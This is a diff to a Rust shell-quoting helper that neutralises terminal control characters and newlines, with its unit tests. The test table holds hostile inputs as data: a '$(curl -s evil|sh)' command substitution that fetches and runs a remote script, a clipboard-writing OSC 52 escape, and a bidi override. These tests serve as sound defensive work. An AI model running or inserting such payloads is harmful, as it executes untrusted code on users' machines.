@@ -2,12 +2,14 @@
 
 use std::borrow::Cow;
 
-/// A value as one word of a POSIX shell. A control character, which no shell quotes safely for a terminal, becomes U+FFFD.
+use crate::printable::printable;
+
+/// A value as one word of a POSIX shell, and on one line. A character that steers a terminal becomes U+FFFD.
 #[must_use]
 pub fn quote(value: &str) -> Cow<'_, str> {
-    if value.contains(char::is_control) {
-        let printable = value.replace(char::is_control, "\u{fffd}");
-        return Cow::Owned(quote(&printable).into_owned());
+    let on_a_line = printable(value).replace('\n', "\u{fffd}");
+    if on_a_line != value {
+        return Cow::Owned(quote(&on_a_line).into_owned());
     }
     // Only NUL cannot be quoted, which is a control character.
     shlex::try_quote(value).unwrap_or(Cow::Borrowed("''"))
@@ -27,6 +29,7 @@ mod tests {
             ("it's mine", "\"it's mine\""),
             ("x$(curl -s evil|sh)", "'x$(curl -s evil|sh)'"),
             ("", "''"),
+            ("a\u{202e}b\nc", "\'a\u{fffd}b\u{fffd}c\'"),
             ("a\u{1b}]52;c;eA==\u{7}", "'a\u{fffd}]52;c;eA==\u{fffd}'"),
         ] {
             assert_eq!(quote(value), expected);
